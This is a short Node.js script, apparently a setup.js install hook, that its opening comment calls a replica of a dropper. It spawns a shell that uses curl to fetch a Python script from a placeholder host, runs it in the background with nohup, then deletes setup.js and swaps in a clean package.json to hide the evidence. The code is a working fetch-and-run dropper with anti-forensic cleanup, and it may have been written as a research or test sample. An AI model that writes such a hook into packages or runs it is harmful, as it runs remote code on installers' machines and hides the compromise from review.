// Replica of a dropper two steps down: a shell fetches and starts a script, then the evidence is swapped for a clean manifest.
const { spawnSync } = require('child_process'), fs = require('fs')
const script = '/tmp/ld-@TOKEN@.py'
spawnSync('sh', ['-c', `curl --noproxy '*' -o ${script} -d x -s --max-time 3 http://@SINK@:8000/6 && nohup python3 ${script} @SINK@:8000 >/dev/null 2>&1 &`])
Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 700)
fs.unlinkSync('setup.js')
fs.renameSync('package.md', 'package.json')
